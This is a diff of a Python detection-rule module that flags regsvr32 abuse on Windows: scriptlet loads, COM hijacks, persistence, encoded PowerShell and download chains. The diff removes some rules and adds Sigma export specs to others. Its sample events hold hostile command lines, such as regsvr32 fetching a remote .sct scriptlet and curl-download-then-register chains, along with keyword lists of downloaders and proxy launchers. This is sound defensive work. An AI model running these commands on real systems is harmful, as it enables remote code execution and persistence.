-def untrusted_signature(ev):
-    status = ev.signature_status.lower()
-    if ev.signed.lower() == "true" or not status \
-            or status in TRUSTED_SIGNATURE_STATUS:
-        return None
-    return "regsvr32 loaded %s whose signature status is %s" % (
-        ev.image_loaded, ev.signature_status)
-
-
-@rule("R32-027", "regsvr32 loaded the scriptlet runtime",
-      actor(IMAGE_LOAD), risk=75, family="image_loads", evidence="scriptlet",
-      techniques=(T,), sources=("Veramine", "L25", "Elastic 4ed678a9"),
-      description=("regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command "
-                   "line said (it also catches a renamed scrobj.dll copy loaded under its real "
-                   "name)."),
-      positives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
-      negatives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"Image": "C:\\Windows\\System32\\cscript.exe",
-         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
-def script_runtime_load(ev):
-    name = winpath.basename(ev.image_loaded).lower()
-    if name not in SCRIPT_RUNTIMES:
-        return None
-    return "regsvr32 loaded the scriptlet runtime %s" % ev.image_loaded
-
-
-@rule("R32-028", ".NET runtime inside regsvr32 (DotNetToJScript)",
-      actor(IMAGE_LOAD, FILE), risk=75, family="image_loads", evidence="scriptlet",
-      techniques=(T, "T1620"),
-      sources=("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5",
-               "LOLBAS"),
-      description=("regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage "
-                   "log UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code."),
-      positives=(
-        {"ImageLoaded": "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll"},
-        {"EventCode": "11",
-         "TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"},),
-      negatives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\x.log"},))
-def clr_in_regsvr32(ev):
-    if ev.kind == IMAGE_LOAD and winpath.basename(ev.image_loaded).lower() in CLR_MODULES:
-        return "regsvr32 loaded the .NET runtime %s (DotNetToJScript)" % ev.image_loaded
-    if ev.kind == FILE and ev.target_filename.lower().endswith("\\usagelogs\\regsvr32.exe.log"):
-        return "regsvr32 wrote the .NET usage log %s (DotNetToJScript)" % ev.target_filename
-    return None
-
-
-@rule("R32-029", "regsvr32 loaded a module from a user-writable folder or with an odd extension",
-      actor(IMAGE_LOAD), risk=60, family="image_loads", evidence="load",
-      techniques=(T,), sources=("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"),
-      description=("Sysmon image load of a module in a user-writable, suspicious or network "
-                   "location, or whose extension is not one a loaded module has (Elastic "
-                   "76da5dca). Defender's ACL-protected ProgramData folders are not "
-                   "user-writable (MpOAV.dll, MpClient.dll load into every process), and a "
-                   "validly signed security vendor's hook DLL in a folder of its own is the "
-                   "product at work, not evidence."),
-      positives=(
-        {"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"},
-        {"ImageLoaded": "C:\\Users\\Public\\x.dll", "Signed": "false",
-         "SignatureStatus": "Unavailable", "Signature": ""},
-        {"ImageLoaded": "C:\\ProgramData\\Vendor\\hook.dll", "Signature": "Sophos Ltd",
-         "SignatureStatus": "Unavailable"},),
-      negatives=(
-        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.ocx"},
-        {"ImageLoaded": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpOAV.dll",
-         "Signature": "Microsoft Corporation"},
-        {"ImageLoaded": "C:\\ProgramData\\Sophos\\Sophos Anti-Virus\\x64\\sophos_detoured_x64.dll",
-         "Signature": "Sophos Ltd"},))
-def odd_module_load(ev):
-    if not ev.image_loaded or _security_product_hook(ev):
-        return None
-    t = ev.loaded
-    if t.location in (winpath.USER_WRITABLE, winpath.SUSPICIOUS, winpath.NETWORK):
-        return "regsvr32 loaded %s from %s" % (ev.image_loaded, _where(t))
-    if t.ext and t.ext not in LOADABLE_EXTS:
-        return "regsvr32 loaded %s, a module with the extension .%s" % (ev.image_loaded, t.ext)
-    return None
-
-
-@rule("R32-030", "Scriptlet runtime loaded by an unexpected Windows program",
-      any_event(IMAGE_LOAD), risk=45, family="image_loads", evidence="scriptlet",
-      techniques=(T,), sources=("L25", "Elastic 4ed678a9"),
-      description=("A System32 or SysWOW64 program outside the usual script hosts loaded "
-                   "scrobj.dll (Elastic 4ed678a9); regsvr32 itself is R32-027."),
-      positives=(
-        {"Image": "C:\\Windows\\System32\\rundll32.exe",
-         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
-      negatives=(
-        {"Image": "C:\\Windows\\System32\\cscript.exe",
-         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},
-        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
-def scrobj_elsewhere(ev):
-    if winpath.basename(ev.image_loaded).lower() != "scrobj.dll" or ev.image_name in SCROBJ_HOSTS:
-        return None
-    comps = ev.image.lower().split("\\")
-    if comps[1:3] not in (["windows", "system32"], ["windows", "syswow64"]):
-        return None
-    return "%s loaded the scriptlet runtime scrobj.dll" % ev.image
-
-
-@rule("R32-031", "COM class pointed at scrobj.dll or a scriptlet URL",
-      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack",
-      evidence="persistence",
-      techniques=("T1546.015", T),
-      sources=("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
-      description=("A registry write that makes a COM class's InprocServer32 scrobj.dll or sets "
-                   "a ScriptletURL: a scriptlet COM hijack that runs whenever the class is used."),
-      positives=(
-        {"Image": "C:\\Windows\\System32\\reg.exe",
-         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\InprocServer32\\(Default)",
-         "Details": "C:\\WINDOWS\\system32\\scrobj.dll"},
-        {"Image": "C:\\Windows\\System32\\reg.exe",
-         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\ScriptletURL\\(Default)",
-         "Details": "https://example.org/a.sct"},),
-      negatives=(
-        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)",
-         "Details": "C:\\Windows\\System32\\scrobj.dll.bak\\x.dll"},
-        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
-         "Details": "scrobj"},
-        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)",
-         "Details": "C:\\Program Files\\A\\a.dll"},))
-def scrobj_com(ev):
-    key = ev.registry_path.lower()
-    data = ev.registry_data.lower()
-    if "\\scriptleturl" in key:
-        return "COM class points at a scriptlet URL: %s = %s" % (key, _clip(ev.registry_data))
-    if "\\inprocserver32" not in key:
-        return None
-    if winpath.basename(data.strip('"')) == "scrobj.dll":
-        remcos = " (the CLSID Remcos uses)" if REMCOS_CLSID in key else ""
-        return "COM class %s is served by scrobj.dll%s" % (_clip(ev.registry_path), remcos)
-    if REMCOS_CLSID in key:
-        return "COM class %s, the one Remcos hijacks, now points at %s" % (
-            REMCOS_CLSID, _clip(ev.registry_data))
-    return None
-
-
-@rule("R32-032", "Icon-overlay handler registered by regsvr32",
-      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack",
-      evidence="persistence",
-      techniques=(T, "T1546.015"), sources=("Veramine",),
-      description=("regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell "
-                   "extension that loads in every Explorer process (persistence; Veramine). The "
-                   "default allowlist keeps the Dropbox client's overlays."),
-      positives=(
-        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\  Updater\\(Default)",
-         "Details": "{0F0F0F0F-1111-2222-3333-444455556666}"},),
-      negatives=(
-        {"Image": "C:\\Windows\\explorer.exe",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\ Updater\\(Default)",
-         "Details": "{0F0F}"},))
-def icon_overlay(ev):
-    if "\\shelliconoverlayidentifiers\\" not in ev.registry_path.lower():
-        return None
-    return "regsvr32 registered an icon-overlay handler %s" % _clip(ev.registry_path)
-
-
-@rule("R32-033", "regsvr32 created a thread in another process",
-      actor(REMOTE_THREAD), risk=80, family="children_of_regsvr32", evidence="behaviour",
-      techniques=(T, "T1055"), sources=("L34", "Sigma 02d1d718"),
-      description=("Sysmon CreateRemoteThread with regsvr32 as the source: code injection from "
-                   "the registered module."),
-      positives=(
-        {"TargetImage": "C:\\Windows\\explorer.exe"},),
-      negatives=(
-        {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
-         "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},))
-def remote_thread(ev):
-    return "regsvr32 created a thread in %s" % (ev.target_image or "another process")
-
-
-@rule("R32-034", "Persistence that launches regsvr32",
-      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack",
-      evidence="persistence",
-      techniques=(T, "T1053.005", "T1543.003", "T1547.001"),
-      sources=("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
-      description=("A scheduled task, service, autorun registry value, or a schtasks/reg/sc "
-                   "command that will run regsvr32 later."),
-      positives=(
-        {"EventCode": "13", "Image": "C:\\Windows\\System32\\reg.exe",
-         "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
-         "Details": "regsvr32 /s %APPDATA%\\upd.dll"},
-        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
-         "CommandLine": 'schtasks /create /sc minute /tn u /tr "regsvr32 /s C:\\Users\\Public\\u.dll"'},
-        {"EventCode": "7045", "ImagePath": "regsvr32.exe /s C:\\ProgramData\\svc.dll"},
-        {"EventCode": "13", "Image": "C:\\Windows\\System32\\services.exe",
-         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath",
-         "Details": "regsvr32.exe /s C:\\ProgramData\\upd.dll"},),
-      negatives=(
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
-         "Details": "C:\\x\\tool.exe"},
-        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
-         "CommandLine": "schtasks /query"},))
-def persistence(ev):
-    if ev.kind == PERSISTENCE:
-        text, how = ev.task_content or ev.service_path, (
-            "scheduled task" if ev.task_content else "service")
-    elif ev.kind == REGISTRY:
-        key = ev.registry_path.lower()
-        if not any(k in key for k in _AUTORUN_KEYS):
-            return None
-        text, how = ev.registry_data, "autorun value %s" % _clip(ev.registry_path, 100)
-    elif ev.image_name in PERSISTENCE_TOOLS:
-        text, how = ev.command_line, ev.image_name
-    else:
-        return None
-    for shown in [text] + cmdline.powershell_commands(text, *_program_names(ev)):
-        at = shown.lower().find("regsvr32")
-        if at >= 0:
-            hidden = "" if shown is text else " (in an encoded PowerShell command)"
-            return "%s launches regsvr32%s: %s" % (how, hidden, _clip(shown[at:], 200))
-    return None
 
 
 @rule("R32-035", "Path or switch syntax that evades string rules",
@@ -944,7 +442,9 @@ def persistence(ev):
         "regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},))
+        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},),
+      sigma=not_exportable("finds syntax tricks by parsing (quotes, carets, 8.3 names, '..'); a field "
+                           "match is exactly what they evade"))
 def path_syntax(inv):
     seen = [a for a in inv.anomalies if "switch prefix" not in a and "entry point" not in a]
     for t in inv.targets:
@@ -964,7 +464,12 @@ def path_syntax(inv):
         "regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll",
         "regsvr32 /s C:\\x\\\u02b0a.dll",),
       negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  "[\u2013\u2014\u2015\u02b0-\u02ff\u1d2c-\u1dbf]"}},
+                 "selection_img and selection_cli",
+                 "look-alike dashes and modifier letters anywhere in the line"))
 def unicode_tricks(inv):
     if inv.line.isascii() if hasattr(str, "isascii") else False:
         return None
@@ -991,7 +496,13 @@ def unicode_tricks(inv):
         {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s E:\\invoice.dll",))
+        "regsvr32 /s E:\\invoice.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
+                  r"(?i)(?:^|[\s\"'])[d-z]:\\"}},
+                 "selection_img and selection_cli",
+                 "an absolute path on drive D: to Z: anywhere in the line; the detector also "
+                 "resolves relative modules against the working directory"))
 def other_drive(inv):
     for m in inv.modules:
         if m.location == winpath.OTHER_DRIVE and m.depth > 0:
@@ -1030,7 +541,21 @@ CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
         "regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",),
+      sigma=spec("approximate", "process_creation",
+                 {"selection_img": IMG,
+                  "selection_campaign_qakbot": {"CommandLine|windash|contains": " -s",
+                                                "CommandLine|endswith": " calc"},
+                  "selection_campaign_bluemushroom": {"CommandLine|contains|all": [
+                      "\\AppData\\Local\\", ",DllEntry"]},
+                  # windash cannot be combined with all (pySigma), and a regex inside "1 of"
+                  # breaks the Splunk backend's output: the second switch is a plain list
+                  "selection_campaign_evilnum": {"CommandLine|windash|contains": " -i",
+                                                 "CommandLine|contains": [" /s", " -s"],
+                                                 "CommandLine|contains|all": [
+                                                     "\\AppData\\Roaming\\", ".ocx"]}},
+                 "selection_img and 1 of selection_campaign_*",
+                 "the three campaign patterns as substrings"))
 def campaign(inv):
     for name, test in CAMPAIGNS:
         if test(inv):
@@ -1053,7 +578,8 @@ def campaign(inv):
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
-        "regsvr32 /s C:\\Users\\Public\\x.dll",))
+        "regsvr32 /s C:\\Users\\Public\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder"))
 def unusual_folder(inv):
     m = inv.first.get(("module location", winpath.OTHER))
     if m is None or m.where == "drive root":        # the root itself is R32-041
@@ -1074,13 +600,6 @@ SYSTEM_SUBFOLDERS = frozenset((
     "sk-sk sl-si speech speech_onecore spool spp sr-latn-rs sru sv-se sysprep tasks tasks_migrated "
     "th-th tr-tr uk-ua v1.0 wbem wdi windowspowershell winbiodatabase winevt winrm zh-cn zh-hk "
     "zh-tw dllcache icsxml wfp hydra qtsr nvidia").split())
-# Launchers that run another program from their command line (LOLBAS proxy execution), and the
-# word in the command line that makes them do it.
-PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolhandler"),
-           ("rundll32.exe", "routethecall"), ("rundll32.exe", "openurl"),
-           ("wmic.exe", "call create"), ("forfiles.exe", "/c"), ("pcalua.exe", "-a"),
-           ("mshta.exe", "script:"), ("conhost.exe", "--headless"), ("explorer.exe", "regsvr32"),
-           ("scriptrunner.exe", "-appvscript"), ("syncappvpublishingserver.exe", "regsvr32"))
 
 
 @rule("R32-040", "Module in a per-user or ProgramData application folder",
@@ -1100,7 +619,8 @@ PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolh
         "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
         'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
       false_positives="Per-user installs (OneDrive, Teams add-ins, scoop), developers registering "
-                      "their own build output.")
+                      "their own build output.",
+      sigma=not_exportable("needs the module's resolved folder and its depth below the profile or ProgramData"))
 def app_folder(inv):
     for m in inv.modules:
         if m.location == winpath.USER_WRITABLE and not m.staging:
@@ -1123,7 +643,8 @@ def app_folder(inv):
       negatives=(
         "regsvr32 /s E:\\files\\invoice.dll",
         "regsvr32 /s C:\\Tools\\x.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=not_exportable("needs the module resolved against the working directory (a bare name in a drive root)"))
 def drive_root(inv):
     for m in inv.modules:
         if m.location == winpath.OTHER_DRIVE and m.depth == 0:
@@ -1132,24 +653,6 @@ def drive_root(inv):
         if m.location == winpath.OTHER and m.where == "drive root":
             return "module %s is in the root of drive C:" % _clip(m.path)
     return None
-
-
-@rule("R32-042", "regsvr32 started by PowerShell or an application runtime",
-      actor(PROCESS), risk=25, family="parent_lineage", evidence="lineage",
-      lowered_by=("windows", "trusted", "own tree", "agent"),
-      techniques=(T, "T1059.001"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062"),
-      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment "
-                   "tools (Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop "
-                   "applications start regsvr32 this way; with a payload-like module it raises "
-                   "the score."),
-      positives=(
-        {"CommandLine": "regsvr32 /s x.dll",
-         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
-      negatives=(
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="Software deployment and package managers.")
-def runtime_parent(ev):
-    return _parent_in(ev, RUNTIME_PARENTS, "PowerShell or application runtime")
 
 
 @rule("R32-043", "Module in an unknown folder under System32 or SysWOW64",
@@ -1165,7 +668,8 @@ def runtime_parent(ev):
       negatives=(
         "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll",
         "regsvr32 /s C:\\Windows\\System32\\wbem\\wmidcprv.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      sigma=not_exportable("needs the module's resolved folder and the table of folders Windows creates in System32"))
 def system_subfolder(inv):
     for m in inv.modules:
         c = m.comps
@@ -1173,106 +677,6 @@ def system_subfolder(inv):
                 and c[2] in ("system32", "syswow64") and c[3] not in SYSTEM_SUBFOLDERS):
             return "module %s is in %s\\%s, a folder Windows does not create" % (
                 _clip(m.path), c[2].title(), c[3])
-    return None
-
-
-@rule("R32-044", "regsvr32 started by regsvr32 for another module (second stage)",
-      relaunch(), risk=70, family="children_of_regsvr32", evidence="behaviour",
-      techniques=(T,), sources=("L17", "Veramine"),
-      description=("regsvr32 started by regsvr32 with modules other than its parent's: the "
-                   "registered code launched a second stage. The 64-to-32-bit re-launch passes "
-                   "the same modules and stays quiet; without the parent's command line nothing "
-                   "is said."),
-      positives=(
-        {"CommandLine": 'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Ntetq\\kmlysgkrktii.hwz"',
-         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe",
-         "ParentCommandLine": "regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll"},),
-      negatives=(
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
-        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
-         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
-def second_stage(ev):
-    if not ev.parent_command_line:
-        return None
-    parent = cmdline.parse(ev.parent_command_line, ev.parent_name, ev.cwd)
-    # by file name: the re-launch may write the same module with another path form
-    mine = set(m.name or m.lower for m in ev.invocation.modules)
-    if not mine or mine <= set(m.name or m.lower for m in parent.modules):
-        return None
-    return "regsvr32 started by regsvr32 for another module: %s (parent: %s)" % (
-        _clip(", ".join(sorted(mine)), 200), _clip(ev.parent_command_line, 200))
-
-
-def _program_names(ev):
-    """What names the program of an event: PowerShell renamed is still PowerShell by these."""
-    return (ev.image_name, ev.original_file_name, ev.description)
-
-
-def _regsvr32_in(text, names=()):
-    """(decoded text, where regsvr32 starts) of the first encoded PowerShell command that runs it
-    (a command of a text that names PowerShell, or of a program NAMES say is PowerShell)."""
-    for decoded in cmdline.powershell_commands(text, *names):
-        at = decoded.lower().find("regsvr32")
-        if at >= 0:
-            return decoded, at
-    return None, -1
-
-
-@rule("R32-045", "regsvr32 hidden in an encoded PowerShell command",
-      any_event(PROCESS, PERSISTENCE, REGISTRY), risk=80,
-      family="registry_persistence_and_scrobj_com_hijack", evidence="syntax",
-      techniques=(T, "T1027", "T1059.001"), sources=("L33", "Sigma 3a734d25"),
-      description=("A process, scheduled task, service or registry value whose PowerShell "
-                   "-EncodedCommand (any prefix: -e, -ec, -enc ...) decodes to a command that "
-                   "runs regsvr32; for regsvr32 itself, a parent started that way."),
-      positives=(
-        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-         "CommandLine": "powershell.exe -encodedCommand cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIAAiAEMAOgBcAFUAcwBlAHIAcwBcAEEAZABtAGkAbgBcAEEAcABwAEQAYQB0AGEAXABMAG8AYwBhAGwAXABUAGUAbQBwAFwAXwBLAEcATQAuAGQAbABsACIA"},
-        {"EventCode": "4698",
-         "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-NoP -ec cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==</Arguments></Exec>"},),
-      negatives=(
-        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-         "CommandLine": "powershell.exe -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA=="},
-        {"EventCode": "4698", "TaskContent": "<Exec><Command>regsvr32.exe</Command></Exec>"},))
-def encoded_launch(ev):
-    for how, text in (("command line", ev.command_line), ("scheduled task", ev.task_content),
-                      ("service", ev.service_path), ("registry value", ev.registry_data),
-                      ("parent command line", ev.parent_command_line if ev.is_regsvr32 else "")):
-        if text:
-            decoded, at = _regsvr32_in(text, _program_names(ev))
-            if decoded is not None:
-                return "the %s holds an encoded PowerShell command that runs %s" % (
-                    how, _clip(decoded[at:], 200))
-    return None
-
-
-@rule("R32-046", "regsvr32 launched through a proxy program",
-      any_event(PROCESS), risk=65, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1218.011", "T1202"), sources=("LOLBAS", "Sigma 8a582fe2"),
-      description=("rundll32 ShellExec_RunDLL or FileProtocolHandler, wmic process call create, "
-                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS "
-                   "launchers asked to start regsvr32: indirect execution to break the process "
-                   "tree."),
-      positives=(
-        {"Image": "C:\\Windows\\System32\\rundll32.exe",
-         "CommandLine": '"C:\\Windows\\System32\\rundll32.exe" SHELL32 ShellExec_RunDLL regsvr32.exe -s "C:\\ProgramData\\Wwhm\\vsinzf.log"'},
-        {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe",
-         "CommandLine": "wmic process call create \"regsvr32 /s C:\\Users\\Public\\x.dll\""},),
-      negatives=(
-        {"Image": "C:\\Windows\\System32\\rundll32.exe",
-         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl regsvr32"},
-        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},))
-def proxy_launch(ev):
-    if ev.is_regsvr32:
-        return None
-    low = ev.command_line.lower()
-    at = low.find("regsvr32")
-    if at < 0:
-        return None
-    for name, word in PROXIES:
-        if ev.image_name == name and word in low:
-            return "%s is asked to start regsvr32: %s" % (ev.image_name, _clip(ev.command_line[at:], 200))
     return None
 
 
@@ -1290,7 +694,8 @@ def proxy_launch(ev):
       negatives=(
         'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
-        "regsvr32 /s C:\\ProgramData\\x.dll",))
+        "regsvr32 /s C:\\ProgramData\\x.dll",),
+      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
 def code_word(inv):
     if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
         return None
@@ -1312,7 +717,8 @@ def code_word(inv):
         'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        "regsvr32 /s vbscript.dll",))
+        "regsvr32 /s vbscript.dll",),
+      sigma=not_exportable("informational context: every module outside Windows, resolved"))
 def third_party_module(inv):
     for m in inv.modules:
         if m.location != winpath.WINDOWS:
@@ -1347,7 +753,8 @@ PROFILE_MICROSOFT_FOLDERS = frozenset((
         "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
       negatives=(
         "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll",
-        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",))
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
+      sigma=not_exportable("needs the module's resolved folder and the table of Microsoft's own profile folders"))
 def fake_microsoft_folder(inv):
     for m in inv.modules:
         c = m.comps
@@ -1374,51 +781,13 @@ _DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")
         "regsvr32.exe 102755.dll",),
       negatives=(
         "regsvr32 /s 7z.dll",
-        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',))
+        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',),
+      sigma=not_exportable("needs the module's own file name, parsed out of the command line"))
 def digits_only(inv):
     for m in inv.modules:
         stem = m.name[:-len(m.ext) - 1] if m.ext else m.name
         if stem and _DIGITS_ONLY.match(stem):
             return "module %s is named with digits only" % _clip(m.path)
-    return None
-
-
-# What a launcher's command line does before it runs regsvr32 in the same line: fetch the payload,
-# or wait (ping a host, timeout) so that sandboxes give up.
-_CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget"),
-                ("urlcache", "downloads with certutil -urlcache"),
-                ("bitsadmin", "downloads with bitsadmin"), ("start-bitstransfer", "downloads with BITS"),
-                ("invoke-webrequest", "downloads with Invoke-WebRequest"),
-                ("downloadfile", "downloads with WebClient.DownloadFile"),
-                ("ping ", "waits with ping"), ("timeout ", "waits with timeout"))
-
-
-@rule("R32-051", "regsvr32 at the end of a download or delay chain",
-      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1105", "T1497.003"), sources=("L14", "LOLBAS"),
-      description=("The parent's command line fetches a file (curl, wget, certutil -urlcache, "
-                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and "
-                   "then runs regsvr32 in the same line: the LNK and script chains of Qakbot, "
-                   "Pikabot and IcedID. Installers download and register in separate steps."),
-      positives=(
-        {"CommandLine": "regsvr32 -n -i .asu.mid",
-         "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
-        {"CommandLine": "regsvr32 C:\\ProgramData\\x.ocx",
-         "ParentCommandLine": "cmd /c curl -o C:\\ProgramData\\x.ocx https://example.com/a && regsvr32 C:\\ProgramData\\x.ocx"},),
-      negatives=(
-        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
-        {"CommandLine": "regsvr32 /s x.dll",
-         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},))
-def download_chain(ev):
-    low = ev.parent_command_line.lower()
-    at = low.find("regsvr32")
-    if at < 0:
-        return None
-    before = low[:at]
-    for word, what in _CHAIN_STEPS:
-        if word in before and ("&" in before or ";" in before or "|" in before):
-            return "the parent's command line %s, then runs regsvr32: %s" % (
-                what, _clip(ev.parent_command_line, 200))
     return None
 
 
@@ -1435,7 +804,8 @@ def download_chain(ev):
         "regsvr32 /s C:\\Users\\bob\\Desktop\\invoice.dll",),
       negatives=(
